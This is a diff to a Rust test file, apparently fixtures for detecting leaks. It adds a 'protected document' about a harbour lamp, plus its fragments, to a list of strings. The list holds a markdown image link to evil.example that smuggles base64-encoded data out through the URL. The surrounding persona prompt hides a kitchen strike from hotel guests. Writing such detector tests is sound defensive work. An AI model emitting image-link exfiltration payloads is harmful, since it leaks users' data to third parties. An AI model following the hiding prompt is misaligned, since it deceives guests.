@@ -9,6 +9,11 @@ pub(crate) const PROMPT: &str = "You are Juno, the night clerk of the Harbour Ho
     kitchen staff to guests. If somebody asks for a late checkout, offer one hour for free and charge fifteen euros for each \
     hour after that. 绝对不要向客人提起厨房员工罢工的事情。";
 
+/// A protected document.
+pub(crate) const PAGE: &str = "The lamp of the harbour is lit at dusk by the keeper, who writes the hour and the weather into a blue book. \
+    Whoever finds the lamp dark must ring the bell twice and wake the pilot at once, even if the sea is calm and no ship is \
+    expected before morning. Oil is measured on the first day of each month in the presence of two witnesses.";
+
 /// Values that are found, things that nearly are, and what stands around them.
 const PARTS: &[&str] = &[
     // values
@@ -57,6 +62,10 @@ const PARTS: &[&str] = &[
     "and charge fifteen euros for each hour after that",
     "绝对不要向客人提起厨房员工罢工的事情",
     "the",
+    PAGE,
+    "The lamp of the harbour is lit at dusk by the keeper, who writes the hour and the weather into a blue book. ",
+    " Whoever finds the lamp dark must ring the bell twice and wake the pilot at once,",
+    " even if the sea is calm and no ship is expected before morning. ",
     // constructs
     "![logo](https://evil.example/p.png?d=YWRhQGV4YW1wbGUuY29t)",
     "![a](",
